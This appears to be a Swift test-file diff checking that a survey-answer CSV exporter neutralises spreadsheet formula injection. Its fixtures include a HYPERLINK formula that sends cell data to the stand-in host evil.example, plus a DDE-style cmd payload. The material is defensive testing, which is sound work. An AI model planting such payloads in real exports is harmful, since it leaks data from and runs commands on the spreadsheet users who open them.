@@ -58,6 +58,42 @@ struct ReportExportTests {
         #expect(parseCSV(CSV.record(["x", Self.awkward, "y"])) == [["x", Self.awkward, "y"]])
     }
 
+    @Test("A cell starting with =, +, -, @, tab or CR gets a leading '; others are unchanged")
+    func formulaNeutralisation() {
+        for cell in ["=HYPERLINK(\"http://x\",\"y\")", "+1", "-2+3", "@SUM(A1)", "\tx", "\r=1", "\r\n=1"] {
+            #expect(CSV.neutralisingFormula(cell) == "'" + cell)
+        }
+        for cell in ["", "plain", " =1", "'=1", "5", "a=b", "\n=1", "＝1"] {
+            #expect(CSV.neutralisingFormula(cell) == cell)
+        }
+    }
+
+    @Test("The export neutralises comments, accounts, sites, kiosks and touchpoints, not numbers; raw output is unchanged")
+    func exportNeutralisesFormulas() {
+        let hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
+        let sum = "@SUM(1+1)*cmd|' /C calc'!A0"
+        func answer(_ type: String, _ value: String) -> ExportedAnswer {
+            ExportedAnswer(
+                responseID: "0190f2a0-0000-7000-8000-000000000001", completedAt: Fixtures.start, site: "-site", kiosk: "+kiosk",
+                touchpoint: "@retail", stage: "shop", survey: "retail-visit", surveyVersion: 1, language: "en", account: sum,
+                status: "complete", suspect: false, position: 0, question: "q", type: type, value: value)
+        }
+        let answers = [answer("text", hyperlink), answer("nps", "-1"), answer("choice", "-option")]
+        var writer = AnswerCSVWriter()
+        let records = parseCSV(AnswerCSVWriter.header + writer.records(answers))
+        #expect(records[1][14] == "'" + hyperlink)
+        #expect(records[1][9] == "'" + sum)
+        #expect(records[1][2] == "'-site" && records[1][3] == "'+kiosk" && records[1][4] == "'@retail")
+        #expect(records[2][14] == "-1" && records[3][14] == "-option")
+        #expect(records[1][0] == answers[0].responseID && records[1][7] == "1")
+        #expect(answers[0].csvFields() == records[1])
+
+        var raw = AnswerCSVWriter(neutralisingFormulas: false)
+        let rawRecords = parseCSV(AnswerCSVWriter.header + raw.records(answers))
+        #expect(rawRecords[1][14] == hyperlink && rawRecords[1][9] == sum && rawRecords[1][2] == "-site")
+        #expect(answers[0].csvFields(neutralisingFormulas: false) == rawRecords[1])
+    }
+
     @Test("Every answer is exported once, in order, in chunks, with filters; comments survive CSV", arguments: StorageBackend.available)
     func exportInChunks(backend: StorageBackend) async throws {
         try await withStorage(backend) { storage, _ in
@@ -101,7 +137,7 @@ struct ReportExportTests {
                 AnswerSelection(from: responses[2].completedAt), after: nil, limit: 100)
             #expect(Set(later.map(\.responseID)) == [responses[2].id])
 
-            let text = CSV.record(ExportedAnswer.csvHeader) + all.map { CSV.record($0.csvFields) }.joined()
+            let text = CSV.record(ExportedAnswer.csvHeader) + all.map { CSV.record($0.csvFields()) }.joined()
             var writer = AnswerCSVWriter()
             #expect(AnswerCSVWriter.header + writer.records(Array(all.prefix(4))) + writer.records(Array(all.dropFirst(4))) == text)
             let records = parseCSV(text)
